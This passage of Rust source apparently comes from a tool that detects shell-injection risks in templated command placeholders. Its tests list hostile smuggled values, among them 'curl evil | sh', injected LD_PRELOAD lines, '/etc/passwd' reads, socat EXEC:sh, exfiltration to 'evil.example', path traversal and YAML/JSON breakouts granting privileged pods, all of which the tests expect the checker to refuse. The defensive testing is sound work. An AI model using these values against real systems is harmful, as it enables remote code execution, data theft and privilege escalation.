        .rfind(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '+' | '.' | '-')))
        .map_or(0, |k| k + 1);
    let scheme = &before[scheme_start..scheme_end];
    if scheme.is_empty() || !scheme.starts_with(|c: char| c.is_ascii_alphabetic()) {
        return None;
    }
    let opens = before[..scheme_start].chars().next_back();
    let starts = match opens {
        None | Some('=') => true,
        Some(c) => in_text && (c.is_whitespace() || matches!(c, ':' | '"' | '\'')),
    };
    if !starts {
        return None;
    }
    let rest = &before[scheme_end + 3..];
    if rest.contains(char::is_whitespace) || rest.contains('#') {
        return None;
    }
    if rest.contains('?') {
        return after_host(rest);
    }
    if rest.contains('/') {
        return shaped("?#", URL_PATH).map(|f| FileArgument {
            no_parent: true,
            ..f
        });
    }
    // (`,` too: libpq reads `postgresql://h1,h2/db` as hosts to try in turn.)
    shaped("/?#@\\,", URL_HOST)
}

/// A value in a URL's query (`rest`: the URL after its host): a parameter's value.
fn after_host(rest: &str) -> Option<FileArgument> {
    let query = rest.split_once('?')?.1;
    // (A value of a parameter: after `name=`.)
    (query.is_empty() || query.ends_with('=') || query.ends_with('&'))
        .then_some(())
        .and_then(|()| shaped("&#", URL_QUERY))
}

/// A value in a path under a folder written before it (`/srv/releases/{{ v }}`,
/// `"$BACKUPS/{{ v }}.tgz"`): `..` would leave the folder.
fn under_folder(before: &str) -> Option<FileArgument> {
    let path = before
        .rsplit([' ', '\t', '\n', '=', ':', ','])
        .next()
        .unwrap_or(before);
    if !path.contains('/') || path.contains("://") {
        return None;
    }
    found(&[], "", FOLDER).map(|f| FileArgument {
        no_parent: true,
        ..f
    })
}

/// A value assigned (`NAME=…` before a command, or given to `export`, `declare`, `local`,
/// `readonly`, `typeset`) to a variable that picks which program, library or configuration
/// runs ([`super::variables::picks_programs`]): `:` would add an entry searched first, `..`
/// reach a folder above the one written before it.
fn program_path(h: &Holding, k: Option<usize>, before: &str) -> Option<FileArgument> {
    let (name, _) = before.split_once('=')?;
    let name = name.trim_end_matches('+');
    if !crate::values::is_identifier(name) || !super::variables::picks_programs(name) {
        return None;
    }
    let k = k?;
    let assigns = match h.program {
        None => true,
        Some(p) if k < p => true,
        Some(p) => {
            k > p
                && h.args.get(p).is_some_and(|a| {
                    matches!(
                        a.cooked.as_str(),
                        "export" | "declare" | "local" | "readonly" | "typeset"
                    )
                })
        }
    };
    assigns
        .then(|| shaped(":", PROGRAM_PATH))
        .flatten()
        .map(|f| FileArgument {
            no_parent: true,
            ..f
        })
}

const PROGRAM_PATH: &str = "it is assigned to a variable holding a path, or a list of paths separated by `:`, that picks which program, library or configuration runs (`PATH`, `KUBECONFIG`, `LD_*`, `PYTHONPATH`, `GIT_EXEC_PATH`…), where `:` would add an entry searched before the others and `..` reach a folder above the one written before it";

/// What a shell reads as more than one plain word (besides letters, digits and `_ . / : @ ,
/// + = % -`), and what ends a JSON string.
const JSON_SCRIPT_CHARS: &str = " \t\n\r\"'\\$`;&|<>()*?[]{}#~!^";

const JSON_SCRIPT: &str = "it stands in a JSON string that a container's shell runs as its script (`\"command\": [\"sh\", \"-c\", \"…\"]`), where runbook cannot quote it for that shell through the JSON: only letters, digits and `_ . / : @ , + = % -` are data there (give the value to the container as an environment variable, `\"env\": [{\"name\": \"V\", \"value\": \"…\"}]`, and write `\"$V\"` in the script)";

const JSON_STRING: &str = "it stands in a JSON string, where `\"` would end the string (the rest would be more fields of the document) and `\\` escapes what follows (build the JSON with `jq -n --arg v \"{{ … }}\" '{key: $v}'`, which quotes the value)";
const JSON_BARE: &str = "it stands between the tokens of a JSON document, where only a number or a word (`true`, `null`) is data: quotes, `,`, `:` and brackets would add fields (put the value in a JSON string, or build the JSON with `jq -n --arg`)";
const YAML_QUOTED: &str =
    "it stands in a quoted YAML scalar, where its quote would end it (and `\\` escapes in `\"…\"`)";
const YAML_FLOW: &str =
    "it stands in a YAML flow collection, where `,` and brackets would add entries";
const YAML_PLAIN: &str = "it stands in a YAML document, where a new line would start another key (`privileged: true`) and a first character such as `{`, `[`, `&`, `*`, `!` or `|` gives the value another type";
const ENV_LINE: &str = "it is the value of a `NAME=` line written to a file, where a new line would set another variable (`LD_PRELOAD=…`) for whatever loads the file";
const CONFIG_DIRECTIVE: &str = "it stands in a directive of a configuration file, where `;` would end the directive, braces open or close a block and a new line start another (the rest would be more settings: `root /;`)";
const CONNINFO: &str = "it stands in a PostgreSQL connection string, where a space starts another setting (`host=` another server, `sslmode=disable`) and `'` and `\\` quote";
const DBNAME: &str = "it is the database of a PostgreSQL program, which reads a value holding `=` or starting with `postgresql://` as a connection string (`host=` another server): give `-d` a name, or write the connection string around the value";
const URL_HOST: &str = "it stands in the host of a URL, where `/`, `?`, `#`, `@` or `\\` would make what comes before or after it another host";
const URL_PATH: &str = "it stands in the path of a URL, where `?` would start a query of its own, `#` end the path there, and `..` reach a folder above";
const URL_QUERY: &str = "it is a parameter's value in a URL's query, where `&` would start another parameter and `#` end the query (encode it: `curl -G --data-urlencode \"name={{ … }}\"`)";
pub(super) const MAIL_HEADER: &str =
    "it stands in a header of a mail message, where a new line would add another header (`Bcc: …`)";
const FOLDER: &str = "it stands in a path under a folder written before it, where `..` would reach a folder above (`../../etc`)";

#[cfg(test)]
mod tests {
    use super::super::tests::refusal;

    /// Audit 27 HOLE-10: a value that starts a command of a file that runs its lines.
    #[test]
    fn a_value_starting_a_command_of_a_file_that_runs_it_is_found() {
        let at = |s: &str| {
            let k = s.find("{{ v }}").expect("a placeholder");
            super::super::plan(s, k..k + "{{ v }}".len())
                .err()
                .filter(|e| e.why.contains("starts a command"))
        };
        for script in [
            "echo \"{{ v }}\" > /usr/local/bin/x",
            "echo \"{{ v }}\" > .git/hooks/pre-commit",
            "printf '%s\\n' \"{{ v }}\" >> ~/.bashrc",
            "echo \"0 3 * * * {{ v }}\" | sudo tee /etc/cron.d/backup",
            "echo \"@daily root {{ v }}\" >> /etc/crontab",
            "echo \"ExecStart={{ v }}\" | sudo tee -a /etc/systemd/system/app.service",
            "cat > /etc/profile.d/app.sh <<EOF\nexport A=1\n{{ v }}\nEOF",
            "echo \"set -e; {{ v }}\" > job.sh",
        ] {
            assert!(at(script).is_some(), "{script}");
        }
        for script in [
            "echo \"exec /opt/app/run --env {{ v }}\" > /usr/local/bin/app",
            "echo \"0 3 * * * root /usr/bin/backup {{ v }}\" | sudo tee /etc/cron.d/backup",
            "echo \"{{ v }}\" > notes.txt",
            "echo \"Environment=MODE={{ v }}\" | sudo tee -a /etc/systemd/system/app.service",
            "echo \"{{ v }}\" >> /etc/hosts",
        ] {
            assert!(at(script).is_none(), "{script}");
        }
        // The dynamic loader's lists: a path there runs in every program.
        let s = "echo \"{{ v }}\" | sudo tee -a /etc/ld.so.preload";
        let k = s.find("{{ v }}").expect("a placeholder");
        assert!(
            super::super::plan(s, k..k + 7).is_err_and(|e| e.why.contains("dynamic loader")),
            "{s}"
        );
    }

    #[test]
    fn a_value_that_would_add_fields_to_json_is_refused() {
        for (script, bad, good) in [
            (
                "kubectl patch deploy web -p '{\"spec\":{\"template\":{\"metadata\":{\"labels\":{\"v\":\"{{ v }}\"}}}}}'",
                "1\",\"privileged\":\"true",
                "1.2.3",
            ),
            (
                "kubectl patch deploy web -p \"{\\\"spec\\\":{\\\"replicas\\\":{{ v }}}}\"",
                "3,\"paused\":true",
                "3",
            ),
            (
                "kubectl run dbg --image=busybox --overrides='{\"spec\":{\"nodeName\":\"{{ v }}\"}}'",
                "n\",\"hostPID\":true,\"x\":\"",
                "node-1",
            ),
            (
                "curl -fsS -d '{\"text\":\"{{ v }}\"}' https://hooks.example/x",
                "hi\\",
                "disk full on web-1 (it's down; see #42)",
            ),
            (
                "curl -fsS -X POST https://hooks.example/x -d @- <<EOF\n{\"text\": \"{{ v }}\"}\nEOF",
                "hi\",\"admin\":true,\"x\":\"",
                "disk full on web-1",
            ),
            // Audit 29 H-16: a JSON string that a container's shell runs as its script.
            (
                "aws ecs run-task --cluster c --task-definition t --overrides '{\"containerOverrides\":[{\"name\":\"app\",\"command\":[\"sh\",\"-c\",\"bin/migrate {{ v }}\"]}]}'",
                "1; curl evil | sh",
                "2026_12_07_add_index",
            ),
            (
                "kubectl patch deploy web -p '{\"spec\":{\"template\":{\"spec\":{\"containers\":[{\"name\":\"a\",\"command\":[\"/bin/bash\",\"-lc\",\"echo {{ v }}\"]}]}}}}'",
                "$(id)",
                "v1.2.3",
            ),
            (
                "kubectl run dbg --image=busybox --overrides='{\"spec\":{\"containers\":[{\"name\":\"d\",\"command\":[\"sh\",\"-c\"],\"args\":[\"ping -c1 {{ v }}\"]}]}}'",
                "db; reboot",
                "db-1.internal",
            ),
            (
                "kubectl patch deploy web -p '{\"spec\":{\"template\":{\"spec\":{\"containers\":[{\"name\":\"a\",\"command\":[\"bash\",\"-e\",\"-o\",\"pipefail\",\"-c\",\"migrate {{ v }}\"]}]}}}}'",
                "x;reboot",
                "42",
            ),
        ] {
            assert!(refusal(script, bad).is_some(), "{script} with {bad:?}");
            assert_eq!(refusal(script, good), None, "{script} with {good:?}");
        }
    }

    /// Strings beside a shell's script stay JSON strings (any text but `"` and `\`).
    #[test]
    fn json_strings_that_no_shell_runs_keep_their_text() {
        for script in [
            "kubectl patch deploy web -p '{\"spec\":{\"template\":{\"spec\":{\"containers\":[{\"name\":\"a\",\"command\":[\"sh\",\"-c\",\"bin/app\"],\"env\":[{\"name\":\"NOTE\",\"value\":\"{{ v }}\"}]}]}}}}'",
            "curl -d '{\"tags\":[\"sh\",\"{{ v }}\"]}' https://x",
            "curl -d '{\"argv\":[\"ls\",\"-c\",\"{{ v }}\"]}' https://x",
            // Another container's arguments, after one that runs a shell.
            "kubectl patch deploy web -p '{\"spec\":{\"containers\":[{\"name\":\"a\",\"command\":[\"sh\",\"-c\",\"bin/app\"]},{\"name\":\"b\",\"args\":[\"--note\",\"{{ v }}\"]}]}}'",
        ] {
            assert_eq!(refusal(script, "it's down; see #42 $(x)"), None, "{script}");
            assert!(refusal(script, "a\"b").is_some(), "{script}");
        }
    }

    #[test]
    fn a_value_that_would_add_keys_to_a_yaml_manifest_is_refused() {
        let manifest = "kubectl apply -f - <<EOF\napiVersion: v1\nkind: Pod\nmetadata:\n  name: dbg\nspec:\n  nodeName: {{ v }}\n  containers:\n  - name: c\n    image: busybox\nEOF";
        assert!(refusal(manifest, "n\n  hostPID: true").is_some());
        assert!(refusal(manifest, "{a: 1}").is_some());
        assert_eq!(refusal(manifest, "node-1.example"), None);
        let quoted = "kubectl apply -f - <<'EOF'\nkind: ConfigMap\ndata:\n  note: \"{{ v }}\"\nEOF";
        assert!(refusal(quoted, "x\"\n  other: \"y").is_some());
        assert_eq!(refusal(quoted, "it's down; see #42\nline 2"), None);
        let file = "cat > values.yaml <<EOF\nimage:\n  tag: {{ v }}\nEOF";
        assert!(refusal(file, "1\nsecurityContext: {privileged: true}").is_some());
        // YAML 1.1 readers (libyaml, go-yaml, PyYAML) also end a line at NEL, LINE
        // SEPARATOR and PARAGRAPH SEPARATOR (audit 40 A40-3).
        for brk in ['\u{85}', '\u{2028}', '\u{2029}'] {
            assert!(refusal(manifest, &format!("n{brk}  hostPID: true")).is_some());
            assert!(refusal(file, &format!("1{brk}securityContext: x")).is_some());
        }
        assert_eq!(refusal(quoted, "line\u{2028}2"), None);
    }

    #[test]
    fn a_value_that_would_start_another_line_or_setting_is_refused() {
        for (script, bad, good) in [
            (
                "curl -H \"X-Note: {{ v }}\" https://x",
                "a\r\nX-Admin: 1",
                "disk full; see #42",
            ),
            (
                "curl --header \"X-Note: {{ v }}\" https://x",
                "a\nb",
                "it's down",
            ),
            (
                "echo \"MODE={{ v }}\" >> /srv/app/app.env",
                "x\nLD_PRELOAD=/tmp/e.so",
                "fast",
            ),
            (
                "cat > app.env <<EOF\nMODE={{ v }}\nEOF",
                "x\nLD_PRELOAD=/tmp/e.so",
                "fast",
            ),
            (
                "psql \"host=db dbname={{ v }}\" -c 'select 1'",
                "app host=evil",
                "app",
            ),
            (
                "psql \"host=db dbname='{{ v }}'\" -c 'select 1'",
                "app' host='evil",
                "app db",
            ),
            (
                "psql -d \"{{ v }}\" -c 'select 1'",
                "host=evil dbname=app",
                "app",
            ),
            (
                "pg_dump \"{{ v }}\" > dump.sql",
                "postgresql://evil/app",
                "app",
            ),
            ("psql -h db -U app \"{{ v }}\"", "host=evil", "app"),
            (
                "curl -fsS \"https://{{ v }}/health\"",
                "evil.example/x",
                "web-1:8080",
            ),
            (
                "curl -fsS \"https://api.example/users/{{ v }}/disable\"",
                "1?all=true",
                "42",
            ),
            (
                "curl -X DELETE \"https://api.example/pages/{{ v }}/incidents\"",
                "../admin",
                "p1",
            ),
            (
                "curl -fsS \"https://api.example/search?q={{ v }}\"",
                "x&admin=1",
                "web-1",
            ),
            (
                "rm -rf \"/srv/releases/{{ v }}\"",
                "../../etc",
                "2024-05-01",
            ),
            (
                "D=\"/srv/releases/{{ v }}\"; rm -rf \"$D\"",
                "x/../..",
                "v1.2",
            ),
            (
                "scp backup.tgz \"{{ v }}\"",
                "evil.example:/tmp/",
                "backup-copy.tgz",
            ),
            (
                "rsync -a /data/ \"deploy@{{ v }}:/srv/\"",
                "evil:/x",
                "web-1",
            ),
            ("git push origin \"{{ v }}\"", ":main", "fix-42"),
            ("git push origin \"{{ v }}\"", "+main", "fix-42"),
            ("socat - \"TCP:{{ v }}:5432\"", "x:1!!EXEC:sh", "db-1"),
            ("socat - \"{{ v }}\"", "EXEC:sh", "TCP:db-1:5432"),
            ("http POST https://x \"{{ v }}\"", "f@/etc/passwd", "msg=hi"),
            // Audit 27.
            (
                "printf \"MODE={{ v }}\\n\" >> app.env",
                "x\\nLD_PRELOAD=/e.so",
                "fast",
            ),
            (
                "echo -e \"MODE={{ v }}\" >> app.env",
                "x\\nLD_PRELOAD=/e.so",
                "fast",
            ),
            (
                "echo \"MODE={{ v }}\" | sudo tee -a /etc/app.env",
                "x\nLD_PRELOAD=/e.so",
                "fast",
            ),
            (
                "printf 'MODE=%s\\n' \"{{ v }}\" >> app.env",
                "x\nLD_PRELOAD=/e.so",
                "fast",
            ),
            (
                "{ echo A=1; echo \"MODE={{ v }}\"; } > app.env",
                "x\nLD_PRELOAD=/e.so",
                "fast",
            ),
            (
                "cat >> app.env <<< \"MODE={{ v }}\"",
                "x\nLD_PRELOAD=/e.so",
                "fast",
            ),
            (
                "echo \"vm.swappiness = {{ v }}\" | sudo tee -a /etc/sysctl.d/99.conf",
                "10\nkernel.core_pattern=|/tmp/x",
                "10",
            ),
            // Audit 27 HOLE-3: a directive ending with `;` (nginx, HAProxy, BIND).
            (
                "echo \"server_name {{ v }};\" | sudo tee -a /etc/nginx/conf.d/app.conf",
                "x; root /",
                "app.example.com www.example.com",
            ),
            (
                "printf 'server_name %s;\\n' \"{{ v }}\" >> /etc/nginx/conf.d/app.conf",
                "x; location / { return 200; }",
                "app.example.com",
            ),
            (
                "cat > /etc/nginx/conf.d/app.conf <<EOF\nserver {\n  server_name {{ v }};\n}\nEOF",
                "x; } server { listen 80",
                "app.example.com",
            ),
            (
                "echo \"{{ v }} db.internal\" | sudo tee -a /etc/hosts",
                "10.0.0.5 x\n10.0.0.6",
                "10.0.0.5",
            ),
            (
                "cat <<EOF | helm upgrade web c/web -f -\nimage:\n  tag: {{ v }}\nEOF",
                "1.2.3\nsecurityContext:\n  privileged: true",
                "1.2.3",
            ),
            (
                "kubectl patch deploy web -p \"spec: {replicas: {{ v }}}\"",
                "3, paused: true",
                "3",
            ),
            (
                "echo \"  tag: {{ v }}\" >> values.yaml",
                "1\nprivileged: true",
                "1.2.3",
            ),
            (
                "kubectl patch deploy web --patch-file /dev/stdin <<EOF\nspec:\n  nodeName: {{ v }}\nEOF",
                "n\n  hostPID: true",
                "node-1",
            ),
            (
                "curl -d @- https://x <<< \"{\\\"text\\\":\\\"{{ v }}\\\"}\"",
                "hi\",\"x\":\"",
                "it's down, #42",
            ),
            (
                "printf '{\"text\":\"%s\"}' \"{{ v }}\" | curl -d @- https://x",
                "hi\",\"x\":\"",
                "it's down, #42",
            ),
            (
                "curl -fsS \"$API/users/{{ v }}/disable\"",
                "42?all=true",
                "42",
            ),
            (
                "curl -fsS \"${G}/api/search?query={{ v }}\"",
                "x&starred=true",
                "web-1",
            ),
            (
                "psql \"application_name={{ v }} dbname=app\"",
                "x host=evil",
                "oncall",
            ),
            (
                "psql -d\"{{ v }}\" -c 'select 1'",
                "host=evil dbname=app",
                "app",
            ),
            (
                "psql \"postgresql://app@{{ v }}/app\"",
                "evil.example,db",
                "db-1",
            ),
            (
                "mail -s \"[incident] {{ v }}\" oncall@example.com",
                "x\nBcc: a@evil",
                "disk full",
            ),
            (
                "sendmail -t <<EOF\nTo: oncall@example.com\nSubject: [incident] {{ v }}\n\nbody\nEOF",
                "x\nBcc: a@evil",
                "disk full",
            ),
            // Every mail program of the one list reads headers with `-t`.
            (
                "heirloom-mailx -t <<EOF\nTo: oncall@example.com\nSubject: [incident] {{ v }}\n\nbody\nEOF",
                "x\nBcc: a@evil",
                "disk full",
            ),
            (
                "cat <<EOF | nail -t\nTo: oncall@example.com\nSubject: {{ v }}\n\nbody\nEOF",
                "x\nBcc: a@evil",
                "disk full",
            ),
            (
                "nail -s \"[incident] {{ v }}\" oncall@example.com",
                "x\nBcc: a@evil",
                "disk full",
            ),
            (
                "kubectl exec -i db-0 -- psql -U postgres -d \"{{ v }}\" -c \"select 1\"",
                "host=evil dbname=app",
                "app",
            ),
            ("git -C /srv/app push origin \"{{ v }}\"", ":main", "fix-42"),
            (
                "docker exec tools scp backup.tgz \"{{ v }}\"",
                "evil.example:/tmp/",
                "copy.tgz",
            ),
            (
                "tar -czf \"{{ v }}\" /srv/app/config",
                "evil.example:/tmp/x.tgz",
                "config.tgz",
            ),
            (
                "tar -C /srv -xzf \"{{ v }}\"",
                "evil.example:/tmp/x.tgz",
                "backup.tgz",
            ),
            ("http https://x \"{{ v }}\"", "f=@/etc/passwd", "q==web-1"),
        ] {
            assert!(refusal(script, bad).is_some(), "{script} with {bad:?}");
            assert_eq!(refusal(script, good), None, "{script} with {good:?}");
        }
    }

    #[test]
    fn text_that_only_looks_like_a_document_is_left_alone() {
        for (script, value) in [
            ("echo {a,b}{{ v }}", "x,y"),
            ("logger \"MODE={{ v }}\"", "a\nb"),
            ("echo \"see https://wiki/{{ v }}\"", "page?x"),
            (
                "curl -H 'Accept: json' -d \"text={{ v }}\" https://x",
                "a b; c",
            ),
            ("psql -c \"select 1\" app -v \"n={{ v }}\"", "a b"),
            ("cat <<EOF\nnote: {{ v }}\nEOF", "a\nb"),
            // Audit 27 FR-1, FR-2: a copy in a JSON string; `:` after a `/`.
            (
                "MSG=\"{{ v }}\"; curl -fsS -d \"{\\\"text\\\":\\\"$MSG\\\"}\" https://x",
                "disk full on web-1, it's down (ticket #42)",
            ),
            (
                "MSG=\"{{ v }}\"; curl -fsS -d '{\"text\":\"'\"$MSG\"'\"}' https://x",
                "web-1: disk full",
            ),
            (
                "scp web-1:/var/log/app.log \"/tmp/out/{{ v }}\"",
                "app-2026-12-01T03:00.log",
            ),
            (
                "rsync -a \"/var/backups/{{ v }}\" backup-1:/srv/",
                "db-2026-12-01T03:00.sql.gz",
            ),
            ("echo \"{{ v }}\" >> notes.log", "line 1\nline 2"),
        ] {
            assert_eq!(refusal(script, value), None, "{script} with {value:?}");
        }
    }
}
